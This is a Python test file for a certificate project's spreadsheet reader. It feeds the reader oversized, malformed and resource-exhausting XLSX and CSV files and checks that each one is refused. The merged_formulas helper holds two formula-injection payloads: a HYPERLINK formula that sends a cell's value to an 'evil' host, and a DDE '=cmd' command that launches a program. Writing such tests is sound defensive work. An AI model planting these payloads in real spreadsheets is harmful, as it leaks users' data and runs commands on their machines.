"""Files that are made to break their reader: each is refused, none takes memory or time."""

import io
import resource
import zipfile
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from random import Random

import pytest

from certgraph.certificates.batches.reports import marks_of, report_of
from certgraph.certificates.printed.printing import Printer
from certgraph.certificates.printed.selecting import printed
from certgraph.certificates.sheets import apart, files
from certgraph.certificates.sheets.marking import marked_workbook
from certgraph.certificates.sheets.reading import read_candidates
from certgraph.problems import Rejected
from tests.server.batch_kit import person, xlsx
from tests.server.certificates.test_printed import printable
from tests.server.certificates.test_sheets import HEAD, ROW, workbook

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TITLES = [*HEAD.split(","), "有效期至", "准考证号"]
VALUES = [*ROW.split(","), "", "K1"]


def cell(column, row, value, kind="inlineStr"):
    address = f"{'ABCDEFGHIJ'[column]}{row}"
    if kind == "inlineStr":
        return f'<c r="{address}" t="inlineStr"><is><t>{value}</t></is></c>'
    return f'<c r="{address}" t="{kind}"><v>{value}</v></c>'


def rows(extra=""):
    head = "".join(cell(n, 1, title) for n, title in enumerate(TITLES))
    body = "".join(cell(n, 2, value) for n, value in enumerate(VALUES))
    return f'<row r="1">{head}</row><row r="2">{body}</row>{extra}'


def raw(data, *, after="", shared="", place="worksheets/sheet1.xml", names=("s",), more=None):
    """Return an XLSX of one part of cells, under one or several names."""
    sheets = "".join(f'<sheet name="{n}" sheetId="1" r:id="r1"/>' for n in names)
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" '
        f'Type="{LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {MAIN} xmlns:r="{LINKS}"><sheets>{sheets}</sheets>'
        "</workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" '
        f'Type="{LINKS}/worksheet" Target="{place}"/></Relationships>',
        f"xl/{place}": f"<worksheet {MAIN}><sheetData>{data}</sheetData>{after}</worksheet>",
        **({"xl/sharedStrings.xml": f"<sst {MAIN}>{shared}</sst>"} if shared else {}),
        **(more or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_the_plain_one_is_read():
    reading = read_candidates(raw(rows()))
    assert (len(reading.candidates), reading.faults) == (1, [])


FAR = '<c r="{}" t="inlineStr"><is><t>x</t></is></c>'


@pytest.mark.parametrize(
    "data",
    [
        raw(rows(f'<row r="3">{FAR.format("A500000")}{FAR.format("XFD500000")}</row>')),
        raw(rows(f'<row r="20000">{FAR.format("xfd20000")}</row>')),
        raw(rows(f'<row r="3">{FAR.format("A9")}</row>')),
        raw(rows(f'<row r="1048577">{FAR.format("A1048577")}</row>')),
        raw(rows(f'<row r="3">{FAR.format("ZZZ3")}</row>')),
        raw(rows('<row r="-1"/>')),
        raw(rows('<row r="x"/>')),
        raw(rows(), names=("s", "s")),
        raw(rows(), place="foo/sheet1.xml", names=("s",)).replace(b"foo/", b"fop/", 1),
        raw(
            rows("".join(f'<row r="{n}">{cell(0, n, 0, "s")}</row>' for n in range(3, 2_003))),
            shared=f"<si><t>{'x' * 100_000}</t></si>",
        ),
        raw(rows('<row r="3"' + " " * 30_000_000 + "/>")),
        raw(rows("<!--" + "x" * 30_000_000 + "-->")),
        raw(rows(), after='<mergeCells><mergeCell ref="A3:ZZZ3"/></mergeCells>'),
    ],
    ids=[
        "far",
        "lower",
        "elsewhere",
        "row",
        "column",
        "minus",
        "word",
        "twice",
        "path",
        "text",
        "long tag",
        "long comment",
        "area",
    ],
)
def test_what_claims_to_be_elsewhere_or_larger_is_damaged_and_takes_no_memory(data):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(Rejected) as caught:
        read_candidates(data)
    assert caught.value.problems[0].code in ("sheet.damaged", "sheet.too_many_cells")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000


def test_a_sheet_in_another_folder_is_looked_at_too():
    hidden = rows(
        '<row r="3" hidden="1">'
        + "".join(cell(n, 3, value) for n, value in enumerate(VALUES))
        + "</row>"
    )
    reading = read_candidates(raw(hidden, place="foo/sheet1.xml"))
    assert [fault.problem.code for fault in reading.faults] == ["sheet.hidden_row"]
    flat = read_candidates(raw(hidden.replace('hidden="1"', 'ht="0" customHeight="1"')))
    assert [fault.problem.code for fault in flat.faults] == ["sheet.hidden_row"]


def test_an_archive_of_two_kinds_is_no_workbook():
    with pytest.raises(Rejected) as caught:
        read_candidates(raw(rows(), more={"content.xml": "<x/>", "mimetype": "x"}))
    assert caught.value.problems[0].code == "sheet.unknown_kind"


@pytest.mark.parametrize("value", ["1e400", "NaN", "-1e300", "1e17"])
@pytest.mark.parametrize("column", [0, 4, 5, 6])
def test_numbers_without_end_are_faults_of_their_cells(value, column):
    data = rows().replace(cell(column, 2, VALUES[column]), cell(column, 2, value, "n"))
    reading = read_candidates(raw(data))
    assert {(fault.row, fault.column) for fault in reading.faults} == {(2, column + 1)}


def test_a_million_merged_areas_are_refused_and_many_take_no_time():
    areas = '<mergeCell ref="A10:A1048576"/>'
    few = raw(rows(), after=f"<mergeCells>{areas * 1_000}</mergeCells>")
    assert read_candidates(few).faults == []
    many = raw(rows(), after=f"<mergeCells>{areas * (files.MAX_AREAS + 1)}</mergeCells>")
    with pytest.raises(Rejected, match="damaged"):
        read_candidates(many)


@pytest.mark.parametrize(("kind", "times"), [("xlsx", 200), ("xls", 5)])
def test_flipped_bytes_end_as_a_refusal_or_as_cells(kind, times, monkeypatch):
    monkeypatch.setattr(apart, "SECONDS", 3)
    whole = xlsx([person(n) for n in range(3)])
    if kind == "xls":
        whole = Path(__file__).with_name("odd.xls").read_bytes()
    random = Random(4)
    for _ in range(times):
        data = bytearray(whole)
        for _ in range(random.choice([1, 4, 40])):
            data[random.randrange(8, len(data))] = random.randrange(256)
        with suppress(Rejected):
            read_candidates(bytes(data))


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"a,b\n" + b"\n" * 1_100_000, "sheet.too_many_cells"),
        (b"," * 20_000, "sheet.too_many_cells"),
        (f"{HEAD}\n".encode() + b",,,,,,,,,\n" * 650_000, "sheet.too_many_cells"),
    ],
    ids=["rows", "columns", "cells"],
)
def test_csv_without_end_is_refused(data, code):
    with pytest.raises(Rejected) as caught:
        read_candidates(data)
    assert caught.value.problems[0].code == code


def merged_formulas(book):
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, [*HEAD.split(","), "准考证号", "备注", "有效期至"])
    for row in (1, 2, 3):
        sheet.write_row(row, 0, ROW.split(","))
    text = book.add_format({"num_format": "@"})
    sheet.merge_range(1, 5, 2, 5, "", text)
    sheet.write_string(1, 5, '=HYPERLINK("http://evil/"&A2)', text)
    sheet.merge_range(1, 6, 2, 6, "", text)
    sheet.write_string(1, 6, '=cmd|"/c calc"!A1', text)


def test_no_text_becomes_a_formula_in_a_marked_workbook():
    data = workbook(merged_formulas)
    reading = read_candidates(data)
    report = report_of(reading.faults)
    marked = marked_workbook(reading.sheet, reading.header, marks_of(report, "zh"), "zh")
    with zipfile.ZipFile(io.BytesIO(marked)) as archive:
        written = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f" not in written
    assert "hyperlink" not in written.lower()
    again = {fault.problem.code for fault in read_candidates(marked).faults}
    assert {"sheet.merged", "sheet.formula_as_text"} >= again >= {"sheet.merged"}


def test_areas_that_overlap_are_given_back_as_refused():
    areas = '<mergeCell ref="F2:F3"/><mergeCell ref="F3:F4"/>'
    more = "".join(
        f'<row r="{n}">{"".join(cell(c, n, value) for c, value in enumerate(VALUES[:6]))}</row>'
        for n in (3, 4)
    )
    data = rows(more).replace(cell(5, 2, ""), cell(5, 2, "2029-01-01"))
    reading = read_candidates(raw(data, after=f"<mergeCells>{areas}</mergeCells>"))
    report = report_of(reading.faults)
    marked = marked_workbook(reading.sheet, reading.header, marks_of(report, "en"), "en")
    assert read_candidates(marked).faults != []


def test_a_formula_in_wide_letters_is_one():
    reading = read_candidates(xlsx([person(1, 准考证号="＝1+1")]))
    assert [fault.problem.code for fault in reading.faults] == ["sheet.formula_as_text"]


def test_pages_are_made_and_read_by_several_threads_at_once():
    printer, pages = Printer(), [printable(f"N-{n}") for n in range(40)]
    with ThreadPoolExecutor(4) as pool:
        made = list(pool.map(lambda one: printed(printer, [one]), pages))
    assert all(pdf.startswith(b"%PDF") for pdf in made)
